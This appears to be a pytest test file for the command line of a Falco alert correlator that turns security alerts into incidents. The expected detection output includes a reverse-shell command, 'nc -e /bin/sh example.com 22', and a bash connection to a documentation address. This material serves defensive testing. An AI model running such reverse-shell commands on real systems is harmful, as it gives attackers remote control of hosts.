"""The command line, as a person types it.

Covers: `cli.replay`, `cli.demo`, `cli.checks`, `sources.replay`, `service.worker`.
"""

import contextlib
import gzip
import json
import os
import re
import signal
import subprocess
import sys
import tempfile
import urllib.request
from pathlib import Path

import click
import pytest
from click.testing import CliRunner, Result
from conftest import DATA
from hypothesis import given, settings
from hypothesis import strategies as st
from support.rules import RULES
from support.waiting import DEADLINE_SECONDS

from sidecar import __version__
from sidecar.cli.main import main
from sidecar.meaning import tables
from sidecar.rules.loading import SHIPPED
from sidecar.settings.schema import AddedPrograms

STOCK = DATA / "stock_alerts.jsonl"
COMMAND = [str(Path(sys.executable).parent / "falco-correlator")]


def ran(*arguments: str | Path, stdin: bytes | None = None, environment: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(main, [str(a) for a in arguments], input=stdin, env=environment)


def test_version_is_told_by_option_and_command() -> None:
    assert ran("--version").output.startswith(f"falco-correlator {__version__} (Python 3.")
    assert ran("--version").output == ran("-V").output == ran("version").output


@pytest.mark.parametrize("command", main.list_commands(click.Context(main)))
def test_every_command_explains_itself_and_its_exit_codes(command: str) -> None:
    outcome = ran(command, "--help")

    assert outcome.exit_code == 0
    assert "Exit codes: 0" in outcome.output
    assert len(outcome.output.splitlines()) > 6


def test_printing_the_version_imports_neither_grpc_nor_yaml_nor_asyncio() -> None:
    code = (
        "import sys; from sidecar.cli.main import main; main(['--version'], standalone_mode=False); "
        "print([m for m in ('grpc', 'yaml', 'asyncio', 'rich', 'msgspec', 'prometheus_client') if m in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)

    assert done.stdout.splitlines()[-1] == "[]"


def test_replay_as_jsonl_is_what_a_sink_would_be_sent() -> None:
    outcome = ran("replay", "--output", "jsonl", STOCK)
    events = [json.loads(line) for line in outcome.stdout.splitlines()]

    assert outcome.exit_code == 0
    assert [event["priority"] for event in events] == ["Warning"] * 4
    assert re.fullmatch(r"119 alerts, \d+ detections, 4 incidents(; declined: .*)?\n", outcome.stderr)


@pytest.mark.parametrize(
    ("scenario", "case"),
    [
        ("nc_e_from_httpd_container", "Web Shell with Network Activity"),
        ("postgres_copy_from_program", "Web Shell with Network Activity"),
        ("alpine_busybox_wget", "Web Shell with Network Activity"),
        ("cron_php_mysqldump_then_ping", None),
        ("jenkins_build_step_curl", None),
        ("postgres_archive_cp", None),
        ("kubectl_exec_debug_only", None),
        ("mail_in_app_plus_admin_exec_same_container", None),
        ("ncdu_in_container", None),
        ("pip_setuptools_python_c", None),
        ("apt_daily_dpkg_triggers", None),
    ],
)
def test_scenarios_whose_groups_stock_rules_see_give_the_expected_case(
    tmp_path: Path, scenario: str, case: str | None
) -> None:
    lines = [
        line
        for line in STOCK.read_text().splitlines()
        if json.loads(line)["output_fields"].get("proc.env[CASE]") == scenario
    ]
    assert lines
    (tmp_path / "alerts.jsonl").write_text("\n".join(lines))
    outcome = ran("replay", "-o", "jsonl", tmp_path / "alerts.jsonl")

    assert ([case] if case else []) == [json.loads(line)["rule"] for line in outcome.stdout.splitlines()]


def test_replay_reads_several_files_gz_and_stdin_alike(tmp_path: Path) -> None:
    lines = STOCK.read_bytes().splitlines(keepends=True)
    (tmp_path / "one.jsonl").write_bytes(b"".join(lines[:60]))
    (tmp_path / "two.jsonl.gz").write_bytes(gzip.compress(b"".join(lines[60:])))
    whole = ran("replay", "-o", "jsonl", STOCK).stdout
    parts = ran("replay", "-o", "jsonl", tmp_path / "one.jsonl", tmp_path / "two.jsonl.gz").stdout

    assert whole == parts == ran("replay", "-o", "jsonl", "-", stdin=STOCK.read_bytes()).stdout


def test_replay_as_table_fits_80_columns_and_has_a_row_an_incident() -> None:
    outcome = ran("replay", STOCK, environment={"COLUMNS": "80"})

    assert outcome.stdout.count("medium") == 4
    assert max(len(line) for line in outcome.stdout.splitlines()) <= 80


def test_replay_as_text_tells_each_incident_in_full() -> None:
    outcome = ran("replay", "-o", "text", STOCK).stdout

    for words in ("Web Shell with Network Activity", "httpd > sh > nc", "nc -e /bin/sh example.com 22", "Next steps"):
        assert words in outcome


def test_replay_counts_what_it_could_not_use(tmp_path: Path) -> None:
    (tmp_path / "bad.jsonl").write_bytes(b"hello\n\n5\n" + STOCK.read_bytes().splitlines()[0])
    result = ran("replay", tmp_path / "bad.jsonl")

    assert result.stderr == "3 alerts, 0 detections, 0 incidents; rejected or anomalous: 1 not_an_object, 1 not_json\n"
    assert result.exit_code == 0


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (bytes(range(256)) * 9, "it cannot be parsed"),
        (b"", "it is empty"),
        (b"03:07:40.535012431: Warning Sensitive file opened\n", "it is text: `json_output` is off"),
        (b'{"kind": "Event"}\n', "it names no rule"),
    ],
)
def test_replay_of_a_file_without_a_single_alert_exits_1_with_the_reason(
    tmp_path: Path, content: bytes, reason: str
) -> None:
    (tmp_path / "x").write_bytes(content)
    result = ran("replay", tmp_path / "x")

    assert result.exit_code == 1
    assert f"{tmp_path / 'x'}: no alert in it: {reason}" in result.stderr


def test_replay_reads_a_folder_by_name_of_its_files_and_says_if_it_has_none(tmp_path: Path) -> None:
    lines = STOCK.read_bytes().splitlines(keepends=True)
    assert "no file in this folder ends with .jsonl" in ran("replay", tmp_path).stderr
    (tmp_path / "b.jsonl.gz").write_bytes(gzip.compress(b"".join(lines[60:])))
    (tmp_path / "a.log").write_bytes(b"".join(lines[:60]))
    (tmp_path / "notes.md").write_text("not read")
    os.mkfifo(tmp_path / "a.jsonl")  # would be waited for
    (tmp_path / "again.jsonl").symlink_to(tmp_path)
    (tmp_path / "gone.jsonl").symlink_to("nowhere")

    assert ran("replay", "-o", "jsonl", tmp_path).stdout == ran("replay", "-o", "jsonl", STOCK).stdout


def test_replay_reads_a_pipe_whose_content_is_compressed(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    writer = subprocess.Popen(["sh", "-c", f"gzip -c {STOCK} > {tmp_path / 'pipe'}"])
    piped = ran("replay", "-o", "jsonl", tmp_path / "pipe")
    writer.wait()

    assert piped.stdout == ran("replay", "-o", "jsonl", STOCK).stdout


def test_what_replay_cannot_uncompress_it_names_a_program_for(tmp_path: Path) -> None:
    (tmp_path / "x.zst").write_bytes(b"\x28\xb5\x2f\xfd....")
    result = ran("replay", tmp_path / "x.zst")

    assert result.exit_code == 2
    assert "zstdcat" in result.stderr


@pytest.mark.parametrize(
    ("arguments", "outcome"),
    [
        (("replay", "/nonexistent.jsonl"), "/nonexistent.jsonl: no such file"),
        (("replay", "--rules", "BAD", STOCK), "id: is missing"),
        (("check", "--rules", "BAD"), "BAD: id: is missing"),
        (("test", "BAD"), "id: is missing"),
        (("check", "--config", "BAD"), "groups: unknown key"),
        (("run", "--config", "BAD"), "groups: unknown key"),
        (("run",), "no sink is configured"),
    ],
)
def test_a_wrong_file_or_setting_exits_2_with_file_and_path_and_no_traceback(
    tmp_path: Path, arguments: tuple[str, ...], outcome: str
) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("groups: {}\n")
    result = ran(*(bad if a == "BAD" else a for a in arguments))

    assert result.exit_code == 2
    assert outcome.replace("BAD", str(bad)) in result.stderr
    assert "Traceback" not in result.output


def test_a_gz_file_that_is_cut_short_exits_2(tmp_path: Path) -> None:
    (tmp_path / "x.gz").write_bytes(gzip.compress(STOCK.read_bytes())[:-20])

    assert ((result := ran("replay", tmp_path / "x.gz")).exit_code, "cannot be read" in result.stderr) == (2, True)


def test_check_tells_what_it_checked(tmp_path: Path) -> None:
    config = tmp_path / "settings.yaml"
    config.write_text("sinks: {stdout: {enabled: true}}\n")
    outcome = ran("check", "--config", config)

    assert (0, f"{config}: ok") == (outcome.exit_code, outcome.stdout.splitlines()[0])
    assert re.search(r"web-application-rce: ok \(groups: 5, cases: 6, tests: \d+\)", outcome.stdout)


def test_test_tells_a_failing_test_what_was_expected_and_exits_1(tmp_path: Path) -> None:
    rule = (SHIPPED / "correlation" / "web_application_rce.yaml").read_text()
    (tmp_path / "rule.yaml").write_text(rule.replace("severity: critical, case: Full", "severity: high, case: Full"))
    outcome = ran("test", tmp_path / "rule.yaml")

    assert outcome.exit_code == 1
    assert "expected: high 'Full Web Application Compromise'" in outcome.stdout
    assert "got:      critical 'Full Web Application Compromise'" in outcome.stdout


def test_schema_prints_json() -> None:
    for kind in ("rule", "settings", "programs"):
        assert "$defs" in json.loads(ran("schema", kind).stdout)


def test_print_config_prints_the_settings_in_effect() -> None:
    outcome = ran("run", "--print-config", environment={"FALCO_CORRELATOR_SINKS__FALCOSIDEKICK__URL": "http://x:2801"})

    assert "url: http://x:2801" in outcome.stdout


@pytest.mark.slow
def test_a_closed_pipe_ends_replay_quietly() -> None:
    shell = f"{COMMAND[0]} replay -o text {STOCK} | head -1"
    done = subprocess.run(["bash", "-c", shell], capture_output=True, text=True, check=True)

    assert "Traceback" not in done.stderr


class Started:
    """A real `falco-correlator run` in a process of its own."""

    def __init__(self, tmp_path: Path, **environment: str) -> None:
        self.sink = tmp_path / "incidents.jsonl"
        self.process = subprocess.Popen(
            [*COMMAND, "run"],
            env={
                **os.environ,
                "FALCO_CORRELATOR_HTTP__PORT": "0",
                "FALCO_CORRELATOR_ADMIN__PORT": "0",
                "FALCO_CORRELATOR_SINKS__FILE__PATH": str(self.sink),
                **environment,
            },
            stderr=subprocess.PIPE,
            text=True,
        )
        assert self.process.stderr
        self.ready = json.loads(self.process.stderr.readline())

    def stop(self, name: signal.Signals) -> tuple[int, list[dict[str, str]]]:
        """Exit code, and the log lines since `ready`."""
        self.process.send_signal(name)
        _, logs = self.process.communicate(timeout=DEADLINE_SECONDS)
        return self.process.returncode, [json.loads(line) for line in logs.splitlines()]


@pytest.mark.slow
@pytest.mark.parametrize("name", [signal.SIGTERM, signal.SIGINT])
def test_run_serves_logs_json_and_stops_cleanly_with_what_it_decided_delivered(
    tmp_path: Path, name: signal.Signals
) -> None:
    started = Started(tmp_path)
    for line in STOCK.read_bytes().splitlines():
        urllib.request.urlopen(f"http://127.0.0.1:{started.ready['http_port']}/", line).read()
    code, logs = started.stop(name)

    assert (code, logs[-1]["message"]) == (0, "stopped")
    assert len(started.sink.read_text().splitlines()) == 4


@pytest.mark.slow
def test_run_stops_while_its_sink_is_dead(tmp_path: Path) -> None:
    started = Started(tmp_path, FALCO_CORRELATOR_SINKS__FALCOSIDEKICK__URL="http://127.0.0.1:9/")
    for line in STOCK.read_bytes().splitlines():
        urllib.request.urlopen(f"http://127.0.0.1:{started.ready['http_port']}/", line).read()
    code, _ = started.stop(signal.SIGTERM)

    assert code == 0


@pytest.mark.slow
def test_a_grpc_socket_without_its_directory_exits_2_with_the_remedy(tmp_path: Path) -> None:
    address = f"unix://{tmp_path}/missing/grpc.sock"
    done = ran("run", environment={"FALCO_CORRELATOR_SINKS__GRPC__ADDRESS": address})

    assert (done.exit_code, done.stdout) == (2, "")
    assert (
        f"cannot start: sinks.grpc.address: {address}: there is no directory {tmp_path}/missing; create it"
        in done.stderr
    )


@pytest.mark.slow
def test_a_taken_port_exits_2_with_the_setting_and_the_remedy(tmp_path: Path) -> None:
    started = Started(tmp_path)
    taken = str(started.ready["http_port"])
    second = subprocess.run(
        [*COMMAND, "run"],
        env={
            **os.environ,
            "FALCO_CORRELATOR_HTTP__PORT": taken,
            "FALCO_CORRELATOR_ADMIN__PORT": "0",
            "FALCO_CORRELATOR_SINKS__STDOUT__ENABLED": "true",
        },
        capture_output=True,
        text=True,
        check=False,
    )
    started.stop(signal.SIGTERM)

    assert second.returncode == 2
    assert "cannot start: http.port: " in second.stderr
    assert "set another port, or end what listens there" in second.stderr
    assert "Traceback" not in second.stderr


@pytest.mark.slow
def test_the_demo_ends_with_one_critical_incident_as_a_person_reads_it() -> None:
    done = subprocess.run(
        [*COMMAND, "demo", "--once", "--port", "0", "--admin-port", "0"], capture_output=True, text=True, check=False
    )

    assert done.returncode == 0, done.stderr
    shown = done.stdout
    assert len(shown.splitlines()) <= 20  # a terminal of 25 lines has room for the address and what make says
    assert "Played 20 alerts of 8 containers" in shown
    assert re.search(r"MEDIUM +Shell Execution Detected\n +CRITICAL +Full Web Application Compromise", shown)
    for group in ("web_shell", "shell_technique", "network", "credential"):
        assert group in shown
    assert re.search(r"network +bash +203\.0\.113\.9:9001", shown)
    assert "1 incident of 5 alerts. The other 15, from 7 containers" in shown


def test_shipped_among_the_rules_names_those_of_the_service(tmp_path: Path) -> None:
    settings = tmp_path / "settings.yaml"
    own = tmp_path / "own.yaml"
    own.write_text((DATA / "crypto_mining.yaml").read_text().replace("id: crypto-mining", "id: one-of-my-own"))
    settings.write_text(f"sinks: {{stdout: {{enabled: true}}}}\nrules: [shipped, {own}]\n")

    outcome = ran("check", "--config", settings).stdout

    assert [line.partition(":")[0] for line in outcome.splitlines()[1:]] == [
        *(rule.id for rule in RULES),
        "one-of-my-own",
    ]


def test_settings_are_checked_whole_each_mistake_with_its_line(tmp_path: Path) -> None:
    file = tmp_path / "bad.yaml"
    file.write_text("http:\n  port: abc\n  enabledd: true\nsinks:\n  falcosidekick: {url: foo}\ncoalesce: 5\n")
    result = ran("check", "--config", file)

    assert result.exit_code == 2
    for line, words in (
        (2, "http.port: expected a whole number, got 'abc'"),
        (3, "http.enabledd: unknown key, did you mean 'enabled'?"),
        (5, "sinks.falcosidekick.url: expected http://host:port"),
        (6, "coalesce: expected a duration such as 500ms"),
    ):
        assert f"{file}:{line}: {words}" in result.stderr


def test_the_settings_in_effect_are_printed_with_what_is_wrong_as_a_warning() -> None:
    result = ran("run", "--print-config")

    assert result.exit_code == 0
    assert "supervisor: true" in result.stdout
    assert "warning: sinks: no sink is configured" in result.stderr


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("demo", "--port", "99999"), "is not in the range 0<=x<=65535"),
        (("replay", "--explain", "-o", "jsonl", STOCK), "cannot be combined"),
        (("check", SHIPPED / "web_rce_rules.yaml"), "is a file of Falco rules, not a correlation rule"),
        (("completion", "tcsh"), "is not one of 'bash', 'zsh', 'fish'"),
    ],
)
def test_wrong_usage_is_answered_with_the_remedy_and_2(arguments: tuple[str | Path, ...], words: str) -> None:
    result = ran(*arguments)

    assert result.exit_code == 2
    assert words in result.stderr
    assert "Traceback" not in result.output


@pytest.mark.parametrize("command", ["test", "check"])
def test_shipped_names_the_rules_of_this_version_as_in_the_settings(command: str) -> None:
    assert ran(command, "shipped").stdout == ran(command).stdout


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_a_completion_script_names_the_command(shell: str) -> None:
    assert "_FALCO_CORRELATOR_COMPLETE" in ran("completion", shell).stdout


def test_help_explains_a_command_like_its_option() -> None:
    assert ran("help", "replay").stdout == ran("replay", "--help").stdout
    assert ran("help").stdout == ran("--help").stdout


def test_explain_shows_each_incident_once_as_it_was_last() -> None:
    shown = ran("replay", "--explain", SHIPPED / "recordings" / "demo.jsonl")

    assert shown.stdout.count("Next steps") == 1
    assert "(was medium)" in shown.stdout
    assert "own_identity: A program of the image" in " ".join(shown.stdout.split())
    assert shown.stderr == "20 alerts, 20 detections, 1 incident; declined: 1 boundary, 1 own_identity\n"


ARGUMENT = st.sampled_from(
    [
        "run",
        "demo",
        "replay",
        "check",
        "test",
        "new-rule",
        "doctor",
        "schema",
        "incidents",
        "list",
        "show",
        "export",
        "help",
        "completion",
        "--help",
        "-o",
        "-c",
        "--state",
        "--url",
        "--since",
        "9999999h",
        "99999999999999999999",
        "-1",
        "nowhere",
        "/",
        "/dev/null",
        "-s",
        "critical",
        "--port",
        "--limit",
        "--rules",
        "shipped",
        "[x]",
    ]
) | st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=5)


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(st.lists(ARGUMENT, max_size=5))
def test_whatever_is_typed_nothing_prints_a_traceback(arguments: list[str]) -> None:
    if arguments[:1] in (["run"], ["demo"]):  # they may be right, and would serve
        arguments = [*arguments, "--no-such-option"]
    with tempfile.TemporaryDirectory() as folder, contextlib.chdir(folder):
        result = ran(*arguments)

    assert result.exception is None or isinstance(result.exception, SystemExit), arguments
    assert result.exit_code in (0, 1, 2, 3)


@pytest.mark.parametrize("arguments", [("run", "-c"), ("check", "--config")])
def test_a_secret_pattern_outside_the_subset_exits_2_with_the_reason(
    tmp_path: Path, arguments: tuple[str, ...]
) -> None:
    file = tmp_path / "settings.yaml"
    file.write_text(
        "sinks: {stdout: {enabled: true}}\n"
        "redaction:\n  patterns:\n    - {name: ACME, pattern: acme_.*, example: acme_x}\n"
    )
    result = ran(*arguments, file)

    assert result.exit_code == 2
    assert f"{file}:4: redaction.patterns[0].pattern: '.' at character 6 is not supported" in result.stderr


def test_replay_knows_the_programs_of_a_settings_file(tmp_path: Path) -> None:
    fields = {"container.id": "0123456789ab", "evt.type": "execve", "proc.pid": 20, "proc.ppid": 10, "proc.name": "sh"}
    fields |= {"proc.exepath": "/usr/bin/dash", "proc.cmdline": "sh -c id", "proc.pname": "acme-gw"}
    fields |= {"proc.pexepath": "/opt/acme/acme-gw", "proc.apid[2]": 1, "proc.aname[2]": "tini"}
    alert = {"rule": "R", "tags": ["webrce_web_shell"], "time": "2026-11-28T01:00:00.000000000Z", "priority": "Notice"}
    (tmp_path / "alerts.jsonl").write_text(json.dumps({**alert, "output_fields": fields}))
    (tmp_path / "config.yaml").write_text("programs:\n  services: [acme-gw]\n")

    try:
        known = json.loads(
            ran("replay", "-o", "json", "-c", tmp_path / "config.yaml", tmp_path / "alerts.jsonl").stdout
        )
    finally:
        tables.extend(AddedPrograms())
    unknown = json.loads(ran("replay", "-o", "json", tmp_path / "alerts.jsonl").stdout)

    assert (known["declined"], unknown["declined"]) == ({}, {"no_service": 1})
